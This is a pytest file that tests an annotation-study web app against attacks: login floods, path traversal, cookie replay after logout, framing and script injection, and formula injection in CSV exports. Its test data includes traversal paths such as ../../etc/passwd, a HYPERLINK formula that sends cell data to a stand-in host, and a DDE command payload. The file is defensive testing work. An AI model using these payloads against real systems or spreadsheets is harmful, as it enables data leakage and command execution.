"""Attacks on the collect app (issue 27, item 6), each on SQLite and on the throw-away PostgreSQL: a password
flood (throttled per address and per user name; annotators answered meanwhile because hashing runs off the
event loop), media paths outside the study (../../etc/passwd, the database, dotfiles, links), a cookie replayed
after logout, framing and script injection (security headers), spreadsheet formulas in exports, and an admin
page that must not query the database per annotator."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import threading
from pathlib import Path
from types import SimpleNamespace

import pytest
from sqlalchemy import event, update

from collect.collect_studies import write_study
from collect.test_app import TestClient, _field
from ngrameval.cli import main
from ngrameval.collect import overview, quality, security
from ngrameval.collect.app import create_app
from ngrameval.collect.export import cell
from ngrameval.collect.store import StimulusRow, Store
from ngrameval.collect.study import StudyError, load_study

httpx = pytest.importorskip("httpx", reason="needs httpx (the test extra)")
PASSWORD = "correct horse"


class Clock:
    """A clock the test moves by hand (the throttle's back-off without waiting)."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def _store(tmp_path: Path, url: str, kind: str = "describe") -> Store:
    path = write_study(tmp_path, kind)
    path.write_text(path.read_text().replace("target = 2", "target = 1000"))  # room for every annotator below
    store = Store(load_study(path), url)
    store.init()
    store.add_admin("admin", PASSWORD)
    return store


def _describe(store: Store, aid: int, text: str, language: str) -> None:
    """The annotator describes the next stimulus leased to them."""
    got = store.lease_stimulus(aid)
    assert got is not None
    assert store.submit_description(aid, got[1].token, text, language, "").outcome == "stored"


def _client(app: object, address: str = "198.51.100.7") -> httpx.AsyncClient:
    transport = httpx.ASGITransport(app=app, client=(address, 40000))  # type: ignore[arg-type]
    return httpx.AsyncClient(transport=transport, base_url="http://study.test")


async def _login(c: httpx.AsyncClient, user: str = "admin", password: str = PASSWORD) -> httpx.Response:
    page = (await c.get("/admin/login")).text
    form = {"csrf": _field(page, "csrf"), "username": user, "password": password}
    return await c.post("/admin/login", data=form, follow_redirects=True)


def _counting(store: Store, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Counts the password checks (argon2 verifications) the app asks the store for."""
    calls: list[str] = []
    real = store.check_admin

    def check(user: str, password: str) -> bool:
        calls.append(user)
        return real(user, password)

    monkeypatch.setattr(store, "check_admin", check)
    return calls


# ---------------------------------------------------------------- login throttle


@pytest.mark.slow
def test_login_throttle_per_address_and_per_user(tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    store = _store(tmp_path, db_url)
    calls = _counting(store, monkeypatch)
    clock = Clock()
    app = create_app(store, throttle=security.LoginThrottle(free=5, base=1.0, clock=clock))

    async def attack() -> None:
        async with _client(app, "203.0.113.1") as c:
            codes = [(await _login(c, "admin", f"guess{k}")).status_code for k in range(8)]
            assert codes == [401] * 5 + [429] * 3  # five password checks, then refused without one
            assert len(calls) == 5
            r = await _login(c)  # even the right password waits: no oracle while locked
            assert r.status_code == 429 and r.headers["Retry-After"] == "1" and "try again in 1 s" in r.text
            clock.now += 1  # the back-off has passed: one more try, then twice as long
            assert (await _login(c, "admin", "guess8")).status_code == 401
            r = await _login(c, "admin", "guess9")
            assert r.status_code == 429 and r.headers["Retry-After"] == "2" and len(calls) == 6
            clock.now += 2
            assert "Annotators" in (await _login(c)).text  # the admin gets in; the counts are cleared
        # per user name: one guess each from many addresses still locks the name (not another name)
        for k in range(5):
            async with _client(app, f"192.0.2.{k}") as c:
                assert (await _login(c, "admin", "wrong")).status_code == 401
        async with _client(app, "192.0.2.99") as c:
            assert (await _login(c, "admin", "wrong")).status_code == 429
            assert (await _login(c, "bob", "wrong")).status_code == 401

    asyncio.run(attack())


def test_password_flood_does_not_stall_annotators(tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """While password checks run, annotators' requests are answered: each check here blocks until every
    annotator request has been answered, which could never happen if the check ran on the event loop."""
    store = _store(tmp_path, db_url)
    started, annotators_done = threading.Event(), threading.Event()
    waited: list[bool] = []

    def blocking_check(user: str, password: str) -> bool:
        started.set()
        waited.append(annotators_done.wait(120))  # the timeout only keeps a broken app from hanging the test
        return False

    monkeypatch.setattr(store, "check_admin", blocking_check)
    app = create_app(store, throttle=security.LoginThrottle(free=5, clock=Clock()))
    workers = [f"W{k}" for k in range(10)]

    async def scenario() -> None:
        async with _client(app, "203.0.113.50") as attacker:
            page = (await attacker.get("/admin/login")).text
            form = {"csrf": _field(page, "csrf"), "username": "admin", "password": "guess"}
            flood = asyncio.gather(*(attacker.post("/admin/login", data=form) for _ in range(40)))
            await asyncio.to_thread(started.wait, 120)
            answers = []
            for w in workers:
                async with _client(app, "198.51.100.20") as c:
                    answers.append(await c.get(f"/start?PROLIFIC_PID={w}&STUDY_ID=S&SESSION_ID=X"))
                    answers.append(await c.get("/task", follow_redirects=True))
                    answers.append(await c.get("/status"))
            annotators_done.set()
            codes = sorted(r.status_code for r in await flood)
        assert [r.status_code for r in answers] == [303, 200, 200] * len(workers)
        assert all("Describe" in r.text or "describe" in r.text for r in answers[1::3])
        assert codes == [401] * 5 + [429] * 35  # a concurrent burst gets no more checks than a slow one
        assert waited == [True] * 5  # every check saw the annotators answered while it ran

    asyncio.run(scenario())


def test_throttle_forgets_and_bounds_its_memory() -> None:
    clock = Clock()
    t = security.LoginThrottle(free=1, base=10.0, cap=40.0, forget=100.0, max_keys=3, clock=clock)
    assert t.attempt(["a"]) == 0 and t.attempt(["a"]) == 10
    clock.now += 10
    assert t.attempt(["a"]) == 0 and t.attempt(["a"]) == 20  # doubles
    for _ in range(3):
        clock.now += 40
        assert t.attempt(["a"]) == 0
    assert t.attempt(["a"]) == 40  # capped
    clock.now += 100
    assert t.attempt(["a"]) == 0  # forgotten after a silence
    for k in "bcde":
        t.attempt([k])
    assert len(t._keys) == 3  # a flood of invented names cannot grow the table


# ---------------------------------------------------------------- sessions


def test_logout_ends_the_session_everywhere(tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    store = _store(tmp_path, db_url)
    app = create_app(store)
    path = tmp_path / "study.toml"

    async def scenario() -> None:
        async with _client(app) as c:
            assert "Annotators" in (await _login(c)).text
            saved = c.cookies["session"]  # an attacker's copy of the cookie
            page = (await c.get("/admin")).text
            r = await c.post("/admin/logout", data={"csrf": _field(page, "csrf")}, follow_redirects=True)
            assert "Admin login" in r.text
        async with _client(app, "203.0.113.66") as thief:
            thief.cookies.set("session", saved)
            r = await thief.get("/admin", follow_redirects=True)
            assert r.url.path == "/admin/login" and "Annotators" not in r.text
            r = await thief.get("/admin/export/ledger.csv", follow_redirects=True)
            assert r.url.path == "/admin/login"
        # a password reset (collect admin) ends the sessions too
        async with _client(app) as c:
            await _login(c)
            assert (await c.get("/admin")).status_code == 200
            (tmp_path / "pw").write_text("a new long password\n")
            args = ["collect", "admin", str(path), "admin", "--password-file", str(tmp_path / "pw")]
            assert main([*args, "--database", db_url]) == 0
            r = await c.get("/admin", follow_redirects=True)
            assert r.url.path == "/admin/login"
        # an admin login lasts ADMIN_MAX_AGE, whatever the cookie's own lifetime
        async with _client(app) as c:
            assert "Annotators" in (await _login(c, password="a new long password")).text
            later = security.time.time() + security.ADMIN_MAX_AGE + 1
            monkeypatch.setattr(security, "time", SimpleNamespace(time=lambda: later))
            assert (await c.get("/admin", follow_redirects=True)).url.path == "/admin/login"

    asyncio.run(scenario())


def test_secure_cookies(tmp_path: Path) -> None:
    store = _store(tmp_path, f"sqlite:///{tmp_path / 'study.db'}")
    client = TestClient(create_app(store, secure_cookies=True), base_url="https://study.test")
    r = client.get("/admin/login")
    flags = r.headers["set-cookie"].lower()
    assert "secure" in flags and "samesite=none" in flags and "partitioned" in flags and "httponly" in flags
    plain = TestClient(create_app(store)).get("/admin/login").headers["set-cookie"].lower()
    assert "secure" not in plain and "samesite=lax" in plain


# ---------------------------------------------------------------- media


def test_media_paths_and_sessions(tmp_path: Path, db_url: str) -> None:
    root = tmp_path / "study"
    store = _store(root, db_url)
    (root / "clip.mp4").write_bytes(b"\x00\x00\x00\x18ftypmp42")
    (root / ".hidden.mp4").write_bytes(b"secret")
    (tmp_path / "outside.mp4").write_bytes(b"outside")
    (root / "link.mp4").symlink_to(tmp_path / "outside.mp4")
    client = TestClient(create_app(store), follow_redirects=True)
    vid = next(s for s in (store.stimulus(k) for k in range(1, 4)) if s and s.kind == "video")
    assert client.get(f"/media/{vid.id}").status_code == 403  # no session: nothing
    client.get("/start?PROLIFIC_PID=P1&STUDY_ID=S&SESSION_ID=X")
    r = client.get(f"/media/{vid.id}")
    assert r.status_code == 200 and r.content.startswith(b"\x00\x00\x00\x18ftyp")
    assert r.headers["content-type"] == "video/mp4"
    other = next(s for s in (store.stimulus(k) for k in range(1, 4)) if s and s.id != vid.id)
    assert client.get(f"/media/{other.id}").status_code == 403  # a stimulus never given to this annotator
    # rows that a manifest can no longer produce (an older database, an edited row) are refused when served
    db = store.url.removeprefix("sqlite:///") if store.url.startswith("sqlite") else "study.db"
    for src in ("../../etc/passwd", "/etc/passwd", "study.db", db, "study.toml", ".hidden.mp4", "link.mp4",
                "../outside.mp4", "stimuli.csv", "study.db-wal"):  # fmt: skip
        with store.session() as s:
            s.execute(update(StimulusRow).where(StimulusRow.id == vid.id).values(src=src))
        r = client.get(f"/media/{vid.id}")
        assert r.status_code == 404 and b"passwd" not in r.content and b"SQLite" not in r.content, src
    admin = TestClient(create_app(store), follow_redirects=True)
    with store.session() as s:
        s.execute(update(StimulusRow).where(StimulusRow.id == vid.id).values(src="clip.mp4"))
    assert admin.get(f"/media/{vid.id}").status_code == 403
    page = admin.get("/admin/login").text
    admin.post("/admin/login", data={"csrf": _field(page, "csrf"), "username": "admin", "password": PASSWORD})
    assert admin.get(f"/media/{vid.id}").status_code == 200  # the admin may look at stimuli too


@pytest.mark.parametrize("src", ["../../etc/passwd", "/etc/passwd", "media/../study.db", ".env", "a/.git/x.mp4",
                                 "C:\\clip.mp4", "file:///etc/passwd", "javascript:alert(1)"])  # fmt: skip
def test_manifest_refuses_paths_outside_the_study(tmp_path: Path, src: str) -> None:
    path = write_study(tmp_path)
    (tmp_path / "stimuli.csv").write_text(f"id,kind,src,start,end,text\nok,video,clip.mp4,1,2,\nv1,video,{src},1,2,\n")
    with pytest.raises(StudyError, match=r"stimuli\.csv:3: column 'src' must be an http\(s\) URL or a file below"):
        load_study(path)


# ---------------------------------------------------------------- headers


def test_security_headers_on_every_response(tmp_path: Path, db_url: str) -> None:
    store = _store(tmp_path, db_url)
    client = TestClient(create_app(store), follow_redirects=False)
    framed = ["/", "/start?PROLIFIC_PID=P1&STUDY_ID=S&SESSION_ID=X", "/task", "/done", "/start", "/media/1"]
    denied = ["/status", "/admin/login", "/admin", "/nowhere"]
    seen_script = False
    for path in framed + denied:
        r = client.get(path)
        csp = r.headers["content-security-policy"]
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "no-referrer"
        assert "default-src 'none'" in csp and "unsafe-inline" not in csp and "base-uri 'none'" in csp
        if path in framed:  # MTurk shows the task in an iframe of its worker site
            assert "frame-ancestors 'self' https://*.mturk.com" in csp and "x-frame-options" not in r.headers
        else:
            assert "frame-ancestors 'none'" in csp and r.headers["x-frame-options"] == "DENY", path
        nonce = re.search(r"'nonce-([^']+)'", csp)[1]  # type: ignore[index]
        for tag in re.findall(r"<(?:script|style)\b[^>]*>", r.text):
            assert f'nonce="{nonce}"' in tag
            seen_script |= tag.startswith("<script")
        assert not re.search(r"<[^>]+\s(style|on\w+)=", r.text), path  # no inline style or handler: CSP drops them
    assert seen_script  # the video page's player script carries the nonce
    page = client.get("/admin/login").text
    client.post("/admin/login", data={"csrf": _field(page, "csrf"), "username": "admin", "password": PASSWORD})
    aid = store.annotators()[0][0].id
    for path in ("/admin", f"/admin/annotator/{aid}", "/admin/export/ledger.csv"):
        r = client.get(path)
        assert r.status_code == 200 and r.headers["x-frame-options"] == "DENY"
        assert not re.search(r"<[^>]+\s(style|on\w+)=", r.text), path
    assert client.get("/status").headers["content-security-policy"] != r.headers["content-security-policy"]


# ---------------------------------------------------------------- exports


def test_cell_neutralises_formulas_only_in_text() -> None:
    for text in ("=1+1", "+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "-0.5"):
        assert cell(text) == "'" + text
    for value in (-0.5, -3, 0, 2.5, "a man = a woman", "", "0.5"):
        assert cell(value) == value


@pytest.mark.slow
def test_exports_neutralise_formulas(tmp_path: Path, db_url: str) -> None:
    store = _store(tmp_path / "d", db_url)
    client = TestClient(create_app(store), follow_redirects=True)
    page = client.get("/start?PROLIFIC_PID=@evil&STUDY_ID=S&SESSION_ID=X").text
    attack = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    form = {f: _field(page, f) for f in ("csrf", "token", "stimulus")}
    client.post("/task", data={**form, "description": attack, "language": "+English", "comment": "-1"})
    page = client.get("/admin/login").text
    client.post("/admin/login", data={"csrf": _field(page, "csrf"), "username": "admin", "password": PASSWORD})
    rows = list(csv.reader(io.StringIO(client.get("/admin/export/descriptions.csv").text)))
    assert rows[1][7] == "'" + attack and rows[1][6] == "'+English"
    raw = list(csv.reader(io.StringIO(client.get("/admin/export/ledger.csv?raw=1").text)))
    assert raw[1][0] == "prolific:@evil"  # starts with a letter: left alone
    # a rating study: a judge group "=cmd" is neutralised, negative z-scores stay numbers
    store = _store(tmp_path / "r", db_url, "rate")
    (token,) = store.add_invites(1, "=cmd|' /C calc'!A0")
    c = TestClient(create_app(store), follow_redirects=True)
    page = c.get(f"/start?invite={token}").text
    k = 0
    while "Text to rate" in page:
        data = {f: _field(page, f) for f in ("csrf", "token", "trial")}
        page = c.post("/task", data={**data, "c_fluency": str(1 + k % 5), "c_accuracy": "3"}).text
        k += 1
    page = c.get("/admin/login").text
    c.post("/admin/login", data={"csrf": _field(page, "csrf"), "username": "admin", "password": PASSWORD})
    rows = list(csv.DictReader(io.StringIO(c.get("/admin/export/judgments.csv").text)))
    assert {r["group"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    zs = [float(r["z"]) for r in rows if r["criterion"] == "fluency"]  # parse as numbers: no quote
    assert min(zs) < 0 < max(zs)


# ---------------------------------------------------------------- the admin page at scale


def _statements(store: Store) -> list[str]:
    seen: list[str] = []
    event.listen(store.engine, "before_cursor_execute", lambda *a: seen.append(a[2]))
    return seen


@pytest.mark.slow
def test_admin_page_queries_do_not_grow_with_annotators(tmp_path: Path, db_url: str) -> None:
    store = _store(tmp_path, db_url)

    def add(n: int, start: int) -> None:
        for k in range(start, start + n):
            aid = store.annotator_for("prolific", f"P{k}")
            for _ in range(3):
                _describe(store, aid, f"a person number {k % 7} cooks", "English")

    client = TestClient(create_app(store), follow_redirects=True)
    page = client.get("/admin/login").text
    client.post("/admin/login", data={"csrf": _field(page, "csrf"), "username": "admin", "password": PASSWORD})
    seen = _statements(store)

    def admin_after_one_more(n: int) -> tuple[int, str]:
        client.get("/admin")
        add(1, n)  # one new description since the last look: the checks must be brought up to date
        seen.clear()
        r = client.get("/admin")
        return len(seen), r.text

    add(5, 0)
    few, _ = admin_after_one_more(5)
    add(200, 6)
    many, text = admin_after_one_more(206)
    assert many == few  # not one query per annotator (pseudonym key, checks)
    r = SimpleNamespace(text=text)
    assert "Annotators (207), page 1 of 3" in r.text and r.text.count('id="annotator-') == 100
    r = client.get("/admin?page=3")
    assert r.text.count('id="annotator-') == 7 and 'id="previous-page"' in r.text and "next-page" not in r.text
    assert client.get("/admin?page=x").text.count('id="annotator-') == 100
    assert "page 3 of 3" in client.get("/admin?page=99").text


def test_cached_checks_equal_a_fresh_computation(tmp_path: Path, db_url: str) -> None:
    store = _store(tmp_path, db_url)
    checks = overview.DescriptionChecks(store)
    words = ["a man slices a tomato", "a cat plays the piano", "someone cooks", "a man cuts a red tomato"]
    for k in range(12):
        aid = store.annotator_for("prolific", f"P{k}")
        for j in range(1 + k % 3):
            _describe(store, aid, words[(k + j) % 4], "German" if k == 4 else "English")
        if k % 4 == 3:
            checks.refresh()  # refreshed part way: later rows are added incrementally
        if k == 8:
            store.delete_annotator(store.annotator_for("prolific", "P2"))
    checks.refresh()
    rows = store.descriptions()
    by_stim: dict[str, list[tuple[str, str]]] = {}
    index = []
    for d, s, _ in rows:
        index.append((s.key, len(by_stim.setdefault(s.key, []))))
        by_stim[s.key].append((d.text, d.language))
    detect = quality.language_detector(store.study.quality.languages)  # the cache identifies languages too
    fresh = quality.description_checks(by_stim, store.study.language, None, store.study.quality, detect)
    per_desc = {d.id: fresh[k] for (d, _, _), k in zip(rows, index)}
    assert checks.per_description == per_desc
    per_ann: dict[int, list[quality.DescriptionCheck]] = {}
    for d, _, a in rows:
        per_ann.setdefault(a.id, []).append(per_desc[d.id])
    assert checks.per_annotator == quality.annotator_checks(per_ann)
    assert any("language" in c.flags for c in checks.per_annotator.values())


def test_checks_of_many_stimuli_at_once_equal_each_alone() -> None:
    by = {
        "a": [("a man slices a tomato", "English"), ("a man cuts a tomato", "English"), ("cooking", "German")],
        "b": [("a cat plays the piano", "English")],
        "c": [("a dog runs", "English"), ("a dog is running in a park", "English")],
    }
    together = quality.description_checks(by, "English")
    alone = {k: v for key in by for k, v in quality.description_checks({key: by[key]}, "English").items()}
    assert together == alone and together["b", 0].bleu is None and together["a", 2].other_language


def test_pseudonyms_read_the_key_once(tmp_path: Path, db_url: str) -> None:
    store = _store(tmp_path, db_url)
    people = [store.annotator(store.annotator_for("prolific", f"P{k}")) for k in range(20)]
    store.pseudonym(people[0])  # type: ignore[arg-type]
    seen = _statements(store)
    names = {store.pseudonym(a) for a in people}  # type: ignore[arg-type]
    assert len(names) == 20 and seen == []


def test_judge_checks_follow_new_ratings(tmp_path: Path, db_url: str) -> None:
    store = _store(tmp_path, db_url, "rate")
    admin = TestClient(create_app(store), follow_redirects=True)
    page = admin.get("/admin/login").text
    admin.post("/admin/login", data={"csrf": _field(page, "csrf"), "username": "admin", "password": PASSWORD})

    def judge(name: str, spread: bool) -> None:
        c = TestClient(admin.app, follow_redirects=True)
        page, k = c.get(f"/start?PROLIFIC_PID={name}&STUDY_ID=S&SESSION_ID=X").text, 0
        while "Text to rate" in page:
            data = {f: _field(page, f) for f in ("csrf", "token", "trial")}
            score = str(1 + k % 5) if spread else "3"  # a spread judge's repeat differs from its original
            page = c.post("/task", data={**data, "c_fluency": score, "c_accuracy": "3"}).text
            k += 1

    row = re.compile(r'<tr id="annotator-\d+">.*?<td class="status">new</td>\s*<td>.*?</td>\s*<td>([^<]*)</td>', re.S)

    def repeat_diffs() -> list[str]:
        return row.findall(admin.get("/admin").text)

    judge("P1", False)
    assert repeat_diffs() == ["0.00"]
    judge("P2", True)  # new ratings: the cached checks are brought up to date
    diffs = repeat_diffs()
    assert len(diffs) == 2 and "0.00" in diffs and all(re.fullmatch(r"\d+\.\d\d", d) for d in diffs)
